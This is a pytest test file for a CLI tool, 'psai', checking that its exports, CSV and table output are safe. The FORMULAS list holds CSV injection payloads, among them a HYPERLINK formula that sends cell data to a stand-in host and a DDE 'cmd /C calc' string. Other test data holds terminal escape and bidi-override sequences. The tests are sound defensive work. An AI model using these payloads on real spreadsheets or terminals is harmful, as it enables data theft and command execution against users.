"""Reliability, round three: output that cannot hurt. Files written by
`export -o` and `--html` never replace what is not a regular file and keep
an existing file's mode and owner; CSV never carries a formula; tables never
let a stored name drive the terminal or fake a line; reports show any name.
Each test failed before its fix."""
import csv
import io
import json
import os
import stat
import threading

import pytest
from click.testing import CliRunner

import psai
from psai import PsAgent, PsAiModel
from psai.cli import cli
from psai.db import is_postgres
from psai.usage import record_usage

from conftest import make_configuration


def run(backend, *args, code=0):
    result = CliRunner().invoke(cli, ["--database", backend.url] + list(args))
    assert result.exit_code == code, (result.exit_code, result.output, result.exception)
    return result


def model(name="GPT-4", **changes):
    return PsAiModel.create(user_id=1, organization_id=2, name=name, configuration=make_configuration(**changes))


def agent(name="a"):
    return PsAgent.create(user_id=1, class_id=1, group_id=1, configuration={"name": name})


def raw(sql, params=()):
    """SQL with ? placeholders on either backend, bypassing psai's checks."""
    return psai.database.execute_sql(sql.replace("?", "%s") if is_postgres() else sql, params)


# Both commands that write a file, by where they write it.
WRITERS = {"export": lambda path: ["export", "-o", str(path)],
           "html": lambda path: ["usage", "report", "--html", str(path)]}


def written(kind, text):
    """What the file holds is the command's output, whole."""
    if kind == "export":
        assert json.loads(text)["ps_ai_models"][0]["name"] == "GPT-4"
    else:
        assert text.startswith("<!doctype html>") and text.endswith("</html>\n")


# -- files ------------------------------------------------------------------------------------

@pytest.mark.parametrize("kind", WRITERS)
def test_an_existing_file_keeps_its_mode_and_owner(db, backend, tmp_path, kind):
    model()
    path = tmp_path / "out"
    path.write_text("old\n")
    os.chmod(path, 0o664)
    if os.geteuid() == 0:
        os.chown(path, 1234, 1234)
    run(backend, *WRITERS[kind](path))
    written(kind, path.read_text())
    status = os.stat(path)
    assert stat.S_IMODE(status.st_mode) == 0o664
    if os.geteuid() == 0:
        assert (status.st_uid, status.st_gid) == (1234, 1234)
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".out")] == []


@pytest.mark.parametrize("kind", WRITERS)
def test_a_symlink_is_followed_its_target_replaced_and_the_link_kept(db, backend, tmp_path, kind):
    model()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    target, link = elsewhere / "target", tmp_path / "link"
    target.write_text("old\n")
    os.chmod(target, 0o640)
    link.symlink_to(target)
    run(backend, *WRITERS[kind](link))
    assert link.is_symlink() and os.readlink(link) == str(target)
    written(kind, target.read_text())
    assert stat.S_IMODE(os.stat(target).st_mode) == 0o640
    # The temporary file was made beside the target, and is gone.
    assert sorted(p.name for p in elsewhere.iterdir()) == ["target"]


@pytest.mark.parametrize("kind", WRITERS)
def test_a_fifo_is_written_through_never_replaced(db, backend, tmp_path, kind):
    model()
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    # A reader, and a writer of our own held open so that the reader sees the
    # end only when we say: before the fix the command replaced the FIFO, and
    # the reader got nothing rather than waiting for ever.
    reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
    keeper = os.open(fifo, os.O_WRONLY)
    os.set_blocking(reader, True)
    received = []

    def read_all():
        with os.fdopen(reader, "rb") as stream:
            received.append(stream.read())
    thread = threading.Thread(target=read_all)
    thread.start()
    try:
        run(backend, *WRITERS[kind](fifo))
    finally:
        os.close(keeper)
        thread.join()
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    written(kind, received[0].decode("utf-8"))


def test_a_character_device_is_written_through_never_replaced(db, backend, tmp_path):
    model()
    device = tmp_path / "null"
    try:  # our own /dev/null: the system's must not be at stake when this fails
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("creating a device node needs root")
    run(backend, "export", "-o", str(device))
    assert stat.S_ISCHR(os.lstat(device).st_mode) and os.stat(device).st_rdev == os.makedev(1, 3)
    run(backend, "usage", "report", "--html", str(device))
    assert stat.S_ISCHR(os.lstat(device).st_mode)


def test_a_dash_is_stdout_and_what_cannot_be_written_is_refused(db, backend, tmp_path, monkeypatch):
    model()
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    written("export", run(backend, "export", "-o", "-").stdout)
    assert not (here / "-").exists()
    (here / "dangling").symlink_to(here / "nowhere")
    assert "does not exist" in run(backend, "export", "-o", "dangling", code=1).stderr
    (here / "directory").mkdir()
    assert "not a regular file" in run(backend, "export", "-o", "directory", code=1).stderr
    assert sorted(p.name for p in here.iterdir()) == ["dangling", "directory"]


# -- CSV ----------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3",
            "\t=1+1", "\r=1+1"]


def csv_rows(text):
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_cells_that_start_like_a_formula_are_neutralised(db, backend):
    models = [model(name) for name in FORMULAS]
    agents = [agent(name) for name in FORMULAS]
    for m, a in zip(models, agents):
        a.ai_models.add(m)
        record_usage(m, a, tokens_in=1000, tokens_out=100)
    guarded = ["'" + name for name in FORMULAS]
    assert [r["name"] for r in csv_rows(run(backend, "models", "list", "--csv").stdout)] == guarded
    assert [json.loads(r["configuration"])["name"]
            for r in csv_rows(run(backend, "agents", "list", "--csv").stdout)] == FORMULAS  # JSON: starts with {
    assert [r["model_name"] for r in csv_rows(run(backend, "usage", "report", "--csv").stdout)] == guarded
    assert [r["agent_name"] for r in csv_rows(run(backend, "usage", "report", "--by", "agent", "--csv").stdout)] \
        == guarded
    # Numbers stay numbers, a negative one too; JSON is exact.
    repriced = csv_rows(run(backend, "models", "reprice", str(models[0].id), "--set",
                            "costInTokensPerMillion=1", "--csv").stdout)[0]
    assert repriced["difference"] == "-0.029" and repriced["calls"] == "1"
    assert [m["name"] for m in json.loads(run(backend, "models", "list", "--json").stdout)] == FORMULAS


# -- the terminal ---------------------------------------------------------------------------------

HOSTILE = {"clear": "evil\x1b[2J\x1b]0;owned\x07", "total": "x\nTOTAL  999999  1  1  1.00  USD",
           "bidi": "abc\u202edcba\u2066", "c1": "c1\x9b31m\x7f"}


def test_tables_show_control_characters_escaped_and_json_and_csv_keep_them(db, backend):
    models = {key: model(name) for key, name in HOSTILE.items()}
    for key, name in HOSTILE.items():
        a = agent(name)
        a.ai_models.add(models[key])
        record_usage(models[key], a, tokens_in=1000, tokens_out=100)
    for args in (["models", "list"], ["agents", "list"], ["usage", "report"], ["usage", "report", "--by", "agent"],
                 ["usage", "report", "--by", "tree"], ["models", "show", str(models["clear"].id)]):
        out = run(backend, *args).stdout
        for character in "\x1b\x07\x7f\x9b\u202e\u2066":
            assert character not in out, (args, character)
        assert "\\x1b[2J\\x1b]0;owned\\x07" in out
        if args[:2] == ["usage", "report"]:
            lines = out.splitlines()
            assert len(lines) == 2 + len(HOSTILE) + 1  # heading, rule, a line per row, one TOTAL
            assert [line for line in lines if line.startswith("TOTAL")] == [lines[-1]]
            assert "x\\nTOTAL  999999" in out and "abc\\u202edcba\\u2066" in out and "c1\\x9b31m\\x7f" in out
    assert "(x\\nTOTAL  999999  1  1  1.00  USD)" in run(backend, "models", "deactivate",
                                                        str(models["total"].id)).stdout
    # The data itself is exact in JSON and CSV.
    assert [m["name"] for m in json.loads(run(backend, "models", "list", "--json").stdout)] == list(HOSTILE.values())
    assert [r["name"] for r in csv_rows(run(backend, "models", "list", "--csv").stdout)] == list(HOSTILE.values())
    assert [r["agent_name"] for r in csv_rows(run(backend, "usage", "report", "--by", "agent", "--csv").stdout)] \
        == list(HOSTILE.values())


# -- names of any JSON type ---------------------------------------------------------------------------

def test_an_agent_name_or_provider_stored_as_a_number_is_shown_in_reports(db, backend, tmp_path, monkeypatch):
    m, numbered = model("priced"), agent("numbered")
    numbered.ai_models.add(m)
    record_usage(m, numbered, tokens_in=1000, tokens_out=100)
    raw('UPDATE "ps_agents" SET "configuration" = ? WHERE "id" = ?', (json.dumps({"name": 5}), numbered.id))
    raw('UPDATE "ps_ai_models" SET "configuration" = ? WHERE "id" = ?',
        (json.dumps(make_configuration(provider=7)), m.id))
    for by in ("model", "agent", "tree", "provider", "day"):
        page = tmp_path / ("%s.html" % by)
        run(backend, "usage", "report", "--by", by, "--html", str(page))
        text = page.read_text()
        assert "<td>5</td>" in text and '<span class="meta">7</span>' in text, by  # top agents, top models
    monkeypatch.chdir(tmp_path)
    shown = run(backend, "demo").stdout
    assert "5 models (anthropic, google, openai)" in shown
    assert [str(numbered.id), "5"] in [line.split()[:2] for line in shown.splitlines()]  # the agent's cost row
    assert "<td>5</td>" in (tmp_path / "psai-report.html").read_text()
    demo_model = PsAiModel.get(PsAiModel.name == "OpenAI GPT-4 Large")
    raw('UPDATE "ps_ai_models" SET "configuration" = ? WHERE "id" = ?',
        (json.dumps(make_configuration(provider=7)), demo_model.id))
    assert "5 models (7, anthropic, google, openai)" in run(backend, "demo").stdout
    # psai refuses to write such a name, and check names the row that holds one: one rule.
    checked = run(backend, "check", code=1).stdout
    assert "ps_agents     %d   configuration.name: Not a valid string." % numbered.id in checked
    assert "configuration.provider: Not a valid string." in checked


def test_an_agent_name_must_be_text_on_every_write(db, backend):
    assert "configuration.name: Not a valid string." in run(
        backend, "agents", "add", "--user-id", "1", "--class-id", "1", "--group-id", "1",
        "--configuration", '{"name": 5}', code=2).stderr
    for name in (5, None, ["a"], {"first": "a"}, True):
        with pytest.raises(psai.ValidationError, match="configuration.name"):
            agent(name)
    named = agent("fine")
    named.configuration = {"name": 5.5}
    with pytest.raises(psai.ValidationError, match="configuration.name"):
        named.save()
    assert [a.configuration for a in PsAgent.select()] == [{"name": "fine"}]
    agent("")  # text, if empty: as PolicySynth may have written it
    PsAgent.create(user_id=1, class_id=1, group_id=1, configuration={})  # no name at all
